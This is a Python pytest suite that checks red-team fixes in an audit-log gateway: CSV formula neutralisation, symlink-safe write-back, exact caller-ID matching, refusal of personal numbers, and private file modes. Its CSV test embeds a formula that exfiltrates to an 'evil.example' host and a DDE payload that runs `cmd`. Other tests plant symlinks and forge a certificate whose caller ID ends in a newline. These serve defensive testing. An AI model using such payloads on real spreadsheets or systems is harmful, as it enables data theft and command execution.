"""Red-team item 15, the smaller items this suite closes:

a. The pepper file was read raw by the gateway and stripped by `audit replay`: with a pepper
   that has whitespace at an edge, an auditor's search by ID number found nothing.
b. `audit replay --format csv` wrote cells starting with = + - @ (a caller chooses the case
   id and the purpose) as spreadsheet formulas.
c. The witness's write-back followed symbolic links planted in the log directory: it wrote
   through fixed temporary names (`checkpoint.tmp`, `<state>.tmp`) and, for a checkpoint
   that was no longer the latest, through `checkpoints/<size>` itself.
d. The caller-id pattern used `^...$`, and `$` matches before a final newline: a certificate
   naming `urn:proofless:caller:<id>\\n` was a caller of its own.
e. `case_id` and `purpose` accepted resident ID numbers and mobile numbers, which then sat in
   the audit log in clear.
f. var/audit was created 0755 with 0644 files.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import os
import secrets
import stat
from collections.abc import Callable
from contextlib import redirect_stdout
from pathlib import Path
from typing import Any

import grpc
import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from gateway.audit.cosignature import CosignatureVerifier, Cosigner
from gateway.audit.note import NoteSigner
from gateway.audit.storage import LATEST, read_pepper
from gateway.audit.tools import csv_cell
from gateway.domain.errors import ConfigError
from proofless.v1 import verification_pb2 as pb
from proofless.v1 import verification_pb2_grpc as pb_grpc
from tests.support.auditlog import ORIGIN, access, fill, open_log, run_audit_cli
from tests.support.stack import Stack

#: the async tests share the module's event loop (and its gateway); the pure ones need none
on_module_loop = pytest.mark.asyncio(loop_scope="module")


def record(idn: str, *, case: str = "QG-2026-000123", purpose: str = "transfer") -> Any:
    return pb.RecordRequest(
        context=pb.RequestContext(service_item="housing-transfer", case_id=case, purpose=purpose),
        applicant=pb.Applicant(id_number=idn),
    )


def entries(directory: Path) -> list[dict[str, Any]]:
    out = []
    for path in sorted((directory / "entries").glob("*.jsonl")):
        out += [json.loads(line) for line in path.read_bytes().splitlines()]
    return out


def log_bytes(directory: Path) -> bytes:
    return b"".join(p.read_bytes() for p in sorted((directory / "entries").glob("*.jsonl")))


async def audit_cli(*argv: str | Path) -> tuple[int, str]:
    """`proofless audit …` in process, in a thread (some commands run an event loop)."""

    def run() -> tuple[int, str]:
        out = io.StringIO()
        with redirect_stdout(out):
            code = run_audit_cli(*argv)
        return code, out.getvalue()

    return await asyncio.to_thread(run)


def reason_of(err: grpc.aio.AioRpcError, details: Callable[..., list[Any]]) -> str:
    return next(d.reason for d in details(err) if hasattr(d, "reason"))


# ---- a. one reader for the pepper ---------------------------------------------------------------


@on_module_loop
async def test_a_pepper_with_edge_whitespace_finds_what_the_gateway_logged(
    make_stack: Callable[..., Any], tmp_path: Path
) -> None:
    pepper = tmp_path / "pepper.bin"
    pepper.write_bytes(b" " + secrets.token_bytes(30) + b"\n")  # random bytes can be spaces
    async with make_stack({"audit": {"pepper_file": str(pepper)}}, tmp_path / "state") as s:
        idn = s.scenarios["household_head"]
        window = await s.verification("quangang-window")
        reply = await window.GetHouseholdRecord(record(idn, case="PEPPER-1"))
        directory = s.config.audit.dir
    code, out = await audit_cli("replay", directory, "--id-number", idn, "--pepper-file", pepper)
    assert code == 0
    found = [json.loads(line) for line in out.splitlines()]
    assert [e["index"] for e in found if e.get("kind") == "access"] == [
        reply.attestation.audit_index
    ]


def test_the_pepper_is_read_as_it_is_and_a_short_one_refused(tmp_path: Path) -> None:
    path = tmp_path / "pepper"
    path.write_bytes(b"\t" + b"k" * 20 + b"\n")
    assert read_pepper(path) == b"\t" + b"k" * 20 + b"\n"
    path.write_bytes(b"short\n")
    with pytest.raises(ConfigError) as info:
        read_pepper(path)
    assert "short" not in info.value.message  # the file's content is never quoted


# ---- b. CSV cells are never formulas ------------------------------------------------------------


@on_module_loop
async def test_csv_export_neutralises_formulas_a_caller_wrote(stack: Stack) -> None:
    idn = stack.scenarios["household_head"]
    window = await stack.verification("quangang-window")
    case = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    await window.GetHouseholdRecord(record(idn, case=case, purpose="@SUM(1+1)*cmd|' /C calc'!A0"))
    code, out = await audit_cli("replay", stack.config.audit.dir, "--case", case, "--format", "csv")
    assert code == 0
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["case_id"] == "'" + case
    assert row["purpose"].startswith("'@")
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start: str) -> None:
    assert csv_cell(start + "1+1") == "'" + start + "1+1"
    assert csv_cell([start + "x", "y"]) == "'" + start + "x;y"


def test_plain_cells_and_numbers_are_unchanged() -> None:
    assert csv_cell("QG-2026-000123") == "QG-2026-000123"
    assert csv_cell(-5) == -5
    assert csv_cell(None) is None
    assert csv_cell(["public-security", "civil"]) == "public-security;civil"


# ---- c. the witness write-back refuses symbolic links -------------------------------------------


@pytest.fixture
def witness_key(tmp_path: Path) -> Path:
    path = tmp_path / "witness.pem"
    path.write_bytes(
        Ed25519PrivateKey.generate().private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return path


async def _cosign(log_dir: Path, key: Ed25519PrivateKey, witness_key: Path, state: Path) -> int:
    """`proofless audit witness cosign`: its cosigned note goes back into the log directory."""
    vkey = NoteSigner(ORIGIN, key).vkey
    code, _ = await audit_cli(
        "witness", "cosign", log_dir, "--log-key", vkey, "--key", witness_key,
        "--name", "witness.test", "--state", state,
    )  # fmt: skip
    return code


def _witnessed_file(witness_key: Path) -> str:
    pem = serialization.load_pem_private_key(witness_key.read_bytes(), password=None)
    assert isinstance(pem, Ed25519PrivateKey)
    return CosignatureVerifier.from_vkey(Cosigner("witness.test", pem).vkey).key_id.hex()


@on_module_loop
async def test_witness_write_back_does_not_follow_planted_links(
    tmp_path: Path, witness_key: Path
) -> None:
    key = Ed25519PrivateKey.generate()
    log_dir = tmp_path / "log"
    await fill(log_dir, key, 5)
    victim = tmp_path / "victim.conf"
    victim.write_text("important\n")
    # the temporary names a write-back used to write through before renaming
    witnessed = log_dir / "witnessed"
    witnessed.mkdir()
    name = _witnessed_file(witness_key)
    for planted in (witnessed / f"{name}.tmp", log_dir / f"{LATEST}.tmp"):
        planted.symlink_to(victim)
    assert await _cosign(log_dir, key, witness_key, tmp_path / "state") == 0
    assert victim.read_text() == "important\n"
    kept = witnessed / name
    assert not kept.is_symlink()
    assert "witness.test" in kept.read_text()  # the cosigned note is back in the log


@on_module_loop
async def test_witness_write_back_refuses_a_symlinked_target(
    tmp_path: Path, witness_key: Path
) -> None:
    key = Ed25519PrivateKey.generate()
    log_dir = tmp_path / "log"
    await fill(log_dir, key, 5)
    victim = tmp_path / "victim.conf"
    victim.write_text("important\n")
    (log_dir / "witnessed").mkdir()
    (log_dir / "witnessed" / _witnessed_file(witness_key)).symlink_to(victim)
    assert await _cosign(log_dir, key, witness_key, tmp_path / "state") != 0
    assert victim.read_text() == "important\n"


# ---- d. a caller id is matched whole ------------------------------------------------------------


def _client_cert(stack: Stack, caller_uri: str, tmp_path: Path) -> tuple[Path, Path]:
    ca = stack.pki.load_ca()
    key = ec.generate_private_key(ec.SECP256R1())
    now = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=5)
    cert = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "newline")]))
        .issuer_name(ca.cert.subject)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now)
        .not_valid_after(now + dt.timedelta(days=1))
        .add_extension(x509.BasicConstraints(ca=False, path_length=None), critical=True)
        .add_extension(x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CLIENT_AUTH]), critical=False)
        .add_extension(
            x509.SubjectAlternativeName(
                [
                    x509.UniformResourceIdentifier(caller_uri),
                    x509.UniformResourceIdentifier("urn:proofless:role:approval"),
                ]
            ),
            critical=False,
        )
        .sign(ca.key, hashes.SHA256())
    )
    cert_path, key_path = tmp_path / "newline.pem", tmp_path / "newline.key"
    cert_path.write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    key_path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    return cert_path, key_path


@on_module_loop
async def test_a_caller_id_with_a_trailing_newline_is_no_identity(
    stack: Stack, tmp_path: Path, details: Callable[..., list[Any]]
) -> None:
    cert, key = _client_cert(stack, "urn:proofless:caller:quangang-window\n", tmp_path)
    credentials = grpc.ssl_channel_credentials(
        root_certificates=stack.pki.ca_pem.read_bytes(),
        private_key=key.read_bytes(),
        certificate_chain=cert.read_bytes(),
    )
    async with grpc.aio.secure_channel(stack.gateway.address, credentials) as channel:
        stub = pb_grpc.VerificationServiceStub(channel)
        with pytest.raises(grpc.aio.AioRpcError) as info:
            await stub.GetHouseholdRecord(record(stack.scenarios["household_head"]))
    assert info.value.code() == grpc.StatusCode.UNAUTHENTICATED
    assert reason_of(info.value, details) == "NO_CALLER_IDENTITY"
    assert all("\n" not in str(e.get("caller", "")) for e in entries(stack.config.audit.dir))


# ---- e. no personal numbers in case_id and purpose ----------------------------------------------


@on_module_loop
@pytest.mark.parametrize(
    ("field", "case", "purpose"),
    [
        ("context.case_id", "{idn}", "transfer"),
        ("context.case_id", "QG-{idn}", "transfer"),
        ("context.purpose", "QG-2026-000124", "申请人{idn}的户籍证明"),
        ("context.purpose", "QG-2026-000125", "联系电话13912345678"),
        ("context.case_id", "TEL13912345678", "transfer"),
    ],
)
async def test_personal_numbers_in_case_id_or_purpose_are_refused(
    stack: Stack, details: Callable[..., list[Any]], field: str, case: str, purpose: str
) -> None:
    idn = stack.scenarios["household_head"]
    case, purpose = case.format(idn=idn), purpose.format(idn=idn)
    window = await stack.verification("quangang-window")
    with pytest.raises(grpc.aio.AioRpcError) as info:
        await window.GetHouseholdRecord(record(idn, case=case, purpose=purpose))
    assert info.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    violations = [v for d in details(info.value) for v in getattr(d, "field_violations", [])]
    assert [v.field for v in violations] == [field]
    assert idn not in violations[0].description
    written = log_bytes(stack.config.audit.dir)
    assert idn.encode() not in written
    assert b"13912345678" not in written


@on_module_loop
async def test_ordinary_case_ids_and_purposes_still_pass(stack: Stack) -> None:
    idn = stack.scenarios["household_head"]
    window = await stack.verification("quangang-window")
    for case, purpose in (
        ("QG-2026-000126", "二手房转移登记 2026 年第 3 批"),
        ("350100-20261121-0001", "transfer of 2 rooms"),
        ("FZ2026112100000012345", "case 12345678901234567890"),  # long runs are not IDs
    ):
        reply = await window.GetHouseholdRecord(record(idn, case=case, purpose=purpose))
        assert reply.attestation.proof_id


# ---- f. the log is private to its owner ---------------------------------------------------------


def _modes(directory: Path) -> dict[str, int]:
    out = {".": stat.S_IMODE(directory.stat().st_mode)}
    for path in directory.rglob("*"):
        out[str(path.relative_to(directory))] = stat.S_IMODE(path.stat().st_mode)
    return out


@on_module_loop
async def test_a_new_log_is_0700_and_its_files_0600(
    make_stack: Callable[..., Any], tmp_path: Path
) -> None:
    async with make_stack(None, tmp_path / "state") as s:
        idn = s.scenarios["household_head"]
        await (await s.verification("quangang-window")).GetHouseholdRecord(record(idn))
        directory = s.config.audit.dir
    modes = _modes(directory)
    assert modes["."] == 0o700
    assert any(name.endswith(".jsonl") for name in modes)
    assert any(name.startswith("tile/") for name in modes)
    for name, mode in modes.items():
        wanted = 0o700 if (directory / name).is_dir() else 0o600
        assert mode == wanted, f"{name}: {mode:o}"


@on_module_loop
async def test_an_existing_0755_log_is_tightened(tmp_path: Path) -> None:
    key = Ed25519PrivateKey.generate()
    directory = tmp_path / "audit"
    directory.mkdir(mode=0o755)
    os.chmod(directory, 0o755)
    log = await open_log(directory, key)
    await log.append(access(0))
    await log.close()
    assert stat.S_IMODE(directory.stat().st_mode) == 0o700
